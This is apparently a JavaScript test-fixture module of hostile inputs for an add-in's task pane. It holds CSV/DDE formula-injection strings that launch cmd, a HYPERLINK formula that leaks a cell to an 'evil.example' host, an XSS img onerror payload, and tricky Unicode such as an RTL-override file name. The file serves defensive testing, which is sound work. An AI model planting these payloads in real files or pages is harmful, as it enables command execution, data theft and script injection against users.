// @ts-check
/** Hostile strings: formula injection (CSV/DDE injection, OWASP) and markup for the task pane. */
'use strict';

const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1)',
  '@HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '-2+3',
  '<img src=x onerror=alert(1)>',
  '=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\t=1+1',
];

/** Unicode that breaks naive code: emoji (ZWJ, flags, skin tones), right-to-left, combining marks. */
const UNICODE = {
  emoji: 'Fix 🔥 backups 👩🏽‍💻 🇪🇸 👨‍👩‍👧‍👦',
  arabic: 'مراجعة صلاحيات الوصول',
  hebrew: 'בדיקת הרשאות גישה',
  rtlOverride: 'invoice\u202Egpj.exe',
  combining: 'Zoe\u0308 Cafe\u0301 Z\u0337\u0322\u0349a\u0336l\u0335g\u0338o\u0336',
  zeroWidth: 'Dana\u200B Smith\u200D',
  bomInside: '\uFEFFLee Chen',
  nbsp: 'In\u00A0progress',
};

module.exports = { INJECTIONS, UNICODE };
